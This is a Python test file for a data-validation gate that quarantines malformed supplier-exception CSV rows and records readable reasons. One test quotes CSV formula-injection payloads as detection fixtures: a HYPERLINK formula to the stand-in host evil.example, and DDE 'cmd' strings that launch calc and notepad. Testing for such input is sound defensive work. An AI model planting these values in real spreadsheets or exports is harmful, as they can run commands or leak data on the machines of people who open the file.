"""Row-level failures: bad rows quarantined with readable reasons and full results; the rest validated."""

from __future__ import annotations

import csv

import pytest

from conveyor.gate.errors import RepeatedInput
from conveyor.gate.results import GateResultStore
from conveyor.ledger import workflows
from tests.conftest import truncate_ledger
from tests.gate.conftest import MALFORMED, SUPPLIER, run_gate
from tests.support.workflows import declare_all

WORKFLOW = "supplier_exceptions"


def quarantined(ledger):
    return {i.business_key: i for i in ledger.items(workflow=WORKFLOW, status="quarantined", limit=None)}


def test_good_extract_validates_every_row(ledger):
    summary = run_gate(ledger, SUPPLIER / "extract.csv")

    assert summary.as_xcom() == {
        "workflow": WORKFLOW,
        "run_id": "run-1",
        "step": "gate",
        "source": str(SUPPLIER / "extract.csv"),
        "suite": "supplier_exceptions",
        "input_hash": summary.input_hash,
        "rows": 480,
        "validated": 480,
        "quarantined": 0,
        "duplicates": 0,
        "conflicts": 0,
        "already_received": 0,
        "unexpected_columns": [],
        "exception_rate": 0.0,
        "status": "accepted",
        "rerun": False,
    }
    assert ledger.count_by_status(workflow=WORKFLOW, run_id="run-1") == {"validated": 480}
    item = ledger.get("supplier_exceptions:EX-2026-000002")
    assert item.payload == {
        "exception_id": "EX-2026-000002",
        "supplier_id": "SUP-0042",
        "supplier_name": "Nordwind Logistics GmbH",
        "po_number": "PO-103238",
        "exception_date": "2026-09-29",
        "amount": 435.06,
        "currency": "EUR",
        "quantity_ordered": 1538,
        "quantity_received": 1538,
        "notes": "Delivered to the wrong dock, goods rerouted internally",
    }
    assert [(h.from_status, h.to_status, h.actor) for h in ledger.history(item.item_id)] == [
        (None, "received", "tests.gate#1"),
        ("received", "validated", "tests.gate#1"),
    ]
    batch = ledger.get_batch(WORKFLOW, "run-1", "gate")
    assert batch["status"] == "accepted" and batch["detail"]["complete"] is True
    assert all(e["failed"] == 0 for e in batch["detail"]["expectations"])
    assert GateResultStore(ledger).for_run(WORKFLOW, "run-1") == []


@pytest.mark.parametrize("name", ["extract.jsonl", "extract.parquet"])
def test_jsonl_and_parquet_give_the_same_items_as_csv(ledger, name):
    run_gate(ledger, SUPPLIER / "extract.csv", run_id="from-csv")
    from_csv = {i.item_id: (i.payload, i.input_hash) for i in ledger.items(workflow=WORKFLOW, limit=None)}
    truncate_ledger(ledger.dsn)
    workflows.forget()  # the declarations went with the truncate: store them again, as a fresh ledger would
    declare_all(ledger)

    summary = run_gate(ledger, SUPPLIER / name, run_id="other-format")

    assert summary.validated == len(from_csv) == 480
    other = {i.item_id: (i.payload, i.input_hash) for i in ledger.items(workflow=WORKFLOW, limit=None)}
    assert other == from_csv


def test_bom_is_accepted_and_the_items_match_the_plain_file(ledger):
    summary = run_gate(ledger, MALFORMED / "bom.csv")

    assert summary.validated == 480
    assert ledger.get("supplier_exceptions:EX-2026-000001").payload["exception_id"] == "EX-2026-000001"
    assert ledger.get_batch(WORKFLOW, "run-1", "gate")["detail"]["input"]["bom"] is True


def test_negative_and_absurd_amounts_are_quarantined_with_the_value(ledger):
    summary = run_gate(ledger, MALFORMED / "bad_amounts.csv")

    assert (summary.validated, summary.quarantined) == (476, 4)
    bad = quarantined(ledger)
    assert set(bad) == {"EX-2026-000011", "EX-2026-000056", "EX-2026-000121", "EX-2026-000302"}
    assert bad["EX-2026-000011"].reason == "failed 1 check: amount -1250.4 is at or below the minimum 0"
    assert (
        bad["EX-2026-000302"].reason == "failed 1 check: amount 99999999999.99 is above the maximum 1,000,000"
    )
    assert bad["EX-2026-000121"].review_target == "validated"
    assert "expect_column_values_to_be_between on amount" in bad["EX-2026-000121"].last_error
    assert "row 121 of bad_amounts.csv" in bad["EX-2026-000121"].last_error
    assert bad["EX-2026-000011"].payload["amount"] == -1250.4
    results = {r["item_id"]: r for r in GateResultStore(ledger).for_run(WORKFLOW, "run-1", "gate")}
    finding = results["supplier_exceptions:EX-2026-000056"]
    assert finding["outcome"] == "quarantined"
    assert finding["row_number"] == 56
    assert finding["failures"] == [
        {
            "expectation": "expect_column_values_to_be_between",
            "column": "amount",
            "value": -0.01,
            "message": "amount -0.01 is at or below the minimum 0",
        }
    ]
    assert finding["row_data"]["exception_id"] == "EX-2026-000056"


def test_duplicate_ids_quarantine_the_key_and_keep_the_repeat(ledger):
    summary = run_gate(ledger, MALFORMED / "duplicate_ids.csv")

    assert (summary.rows, summary.validated, summary.quarantined, summary.duplicates) == (482, 478, 2, 2)
    bad = quarantined(ledger)
    assert set(bad) == {"EX-2026-000013", "EX-2026-000151"}
    assert (
        "exception_id 'EX-2026-000151' appears 2 times in the input (rows 152, 201)"
        in bad["EX-2026-000151"].reason
    )
    repeats = [r for r in GateResultStore(ledger).for_run(WORKFLOW, "run-1") if r["outcome"] == "duplicate"]
    assert [(r["row_number"], r["item_id"]) for r in repeats] == [
        (41, "supplier_exceptions:EX-2026-000013"),
        (201, "supplier_exceptions:EX-2026-000151"),
    ]
    # The repeat's own data (a corrected amount) is kept for the reviewer.
    assert repeats[1]["row_data"]["amount"] == 999.0
    assert repeats[1]["row_data"]["notes"] == "Corrected amount after call with supplier"


def test_duplicates_are_found_across_chunks(ledger, tmp_path):
    """Rows 13 and 41 land in different chunks of 25 rows: still one key, still a duplicate."""
    lines = (MALFORMED / "duplicate_ids.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    path = tmp_path / "first_60.csv"
    path.write_text("".join(lines[:61]), encoding="utf-8")

    summary = run_gate(ledger, path, chunk_size=25)

    assert (summary.rows, summary.validated, summary.quarantined, summary.duplicates) == (60, 58, 1, 1)
    assert "(rows 13, 41)" in quarantined(ledger)["EX-2026-000013"].reason
    assert ledger.get_batch(WORKFLOW, "run-1", "gate")["detail"]["summary"]["rows"] == 60


def test_formula_injection_cells_are_quarantined_not_rewritten(ledger):
    summary = run_gate(ledger, MALFORMED / "formula_injection.csv")

    assert summary.quarantined == 3
    bad = quarantined(ledger)
    hyperlink = bad["EX-2026-000004"]
    assert "notes '=HYPERLINK(" in hyperlink.reason
    assert "starts like a spreadsheet formula (possible formula injection)" in hyperlink.reason
    assert hyperlink.payload["notes"].startswith('=HYPERLINK("http://evil.example/')  # kept as received
    assert "supplier_name \"@SUM(1+9)*cmd|' /C calc'!A0\"" in bad["EX-2026-000078"].reason
    assert "notes \"+cmd|' /C notepad'!A0\"" in bad["EX-2026-000141"].reason
    assert "expect_column_values_to_not_match_regex on notes" in bad["EX-2026-000141"].last_error


def test_signed_numbers_in_text_are_not_taken_for_formulas(ledger, tmp_path):
    rows = list(csv.DictReader((SUPPLIER / "extract.csv").open(encoding="utf-8")))
    rows[0]["notes"] = "-12"
    rows[1]["notes"] = "+3.5"
    rows[2]["notes"] = "-SUM(A1:A9)"
    path = tmp_path / "signed.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    run_gate(ledger, path)

    assert set(quarantined(ledger)) == {"EX-2026-000003"}


def test_a_10_mb_field_quarantines_its_row_and_is_shortened_in_the_ledger(ledger, tmp_path, generator):
    path = generator.write_huge_field(tmp_path / "huge_field.csv")
    assert path.stat().st_size > 10 * 1024 * 1024

    summary = run_gate(ledger, path)

    assert (summary.validated, summary.quarantined) == (479, 1)
    item = quarantined(ledger)["EX-2026-000007"]
    assert "notes is 10,485,760 characters long; at most 2,000 allowed" in item.reason
    assert len(item.reason) < 600
    assert len(item.payload["notes"]) < 100_100
    assert item.payload["notes"].endswith("[truncated by the gate: 10,485,760 characters]")
    finding = GateResultStore(ledger).for_item(item.item_id)[0]
    assert len(finding["failures"][0]["value"]) < 300


def test_extra_columns_are_allowed_kept_and_reported(ledger):
    summary = run_gate(ledger, MALFORMED / "extra_columns.csv")

    assert summary.validated == 480
    assert summary.unexpected_columns == ["buyer", "plant_code"]
    assert ledger.get("supplier_exceptions:EX-2026-000001").payload["plant_code"] in {"HAM1", "MUC2"}
    batch = ledger.get_batch(WORKFLOW, "run-1", "gate")
    assert batch["status"] == "accepted"
    assert batch["reason"] == "accepted with unexpected columns: buyer, plant_code"
    assert batch["detail"]["unexpected_columns"] == ["buyer", "plant_code"]


def test_unparseable_values_and_nulls_are_named_once(ledger, tmp_path):
    rows = list(csv.DictReader((SUPPLIER / "extract.csv").open(encoding="utf-8")))
    rows[0]["amount"] = "1.250,40"
    rows[1]["quantity_received"] = "12.5"
    rows[2]["currency"] = "EURO"
    rows[3]["notes"] = ""
    rows[4]["exception_date"] = "2027-01-15"
    rows[5]["exception_id"] = ""
    path = tmp_path / "mixed.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    summary = run_gate(ledger, path)

    assert summary.quarantined == 6
    reasons = {i.business_key: i.reason for i in quarantined(ledger).values()}
    assert reasons["EX-2026-000001"] == (
        "failed 1 check: amount '1.250,40' is not a number (written with ',' for decimals, '.' between "
        "thousands; the feed must send plain numbers such as -1234.56)"
    )
    assert reasons["EX-2026-000002"] == "failed 1 check: quantity_received '12.5' is not a whole number"
    assert reasons["EX-2026-000003"] == "failed 1 check: currency 'EURO' is not one of EUR, USD, GBP, CHF"
    assert reasons["EX-2026-000004"] == "failed 1 check: notes is empty"
    assert reasons["EX-2026-000005"] == (
        "failed 1 check: exception_date 2027-01-15 is in the future or more than a year old"
    )
    missing_key = next(k for k in reasons if k.startswith("row-6@"))
    assert reasons[missing_key] == "failed 1 check: exception_id is empty"
    assert ledger.get(f"supplier_exceptions:{missing_key}").payload["amount"] == pytest.approx(
        float(rows[5]["amount"])
    )
    # The unparseable value is kept as received in the payload, for the reviewer to correct.
    assert ledger.get("supplier_exceptions:EX-2026-000001").payload["amount"] == "1.250,40"


def test_conflicting_key_from_another_run_is_not_received(ledger):
    run_gate(ledger, SUPPLIER / "extract.csv", run_id="monday")

    # Yesterday's extract again, with four rows changed: nothing new for this run, said at the gate.
    with pytest.raises(RepeatedInput) as raised:
        run_gate(ledger, MALFORMED / "bad_amounts.csv", run_id="tuesday")

    assert "476 rows of bad_amounts.csv were already received in run 'monday'" in raised.value.reason
    assert "4 row(s) reuse a key of those runs with other data" in raised.value.reason
    assert ledger.count_by_status(run_id="tuesday") == {}
    assert ledger.get_batch(WORKFLOW, "tuesday", "gate")["status"] == "repeated"
    conflicts = [
        r for r in GateResultStore(ledger).for_run(WORKFLOW, "tuesday") if r["outcome"] == "conflict"
    ]
    assert len(conflicts) == 4
    assert (
        "already in the ledger from run 'monday' (status 'validated')"
        in conflicts[0]["failures"][0]["message"]
    )
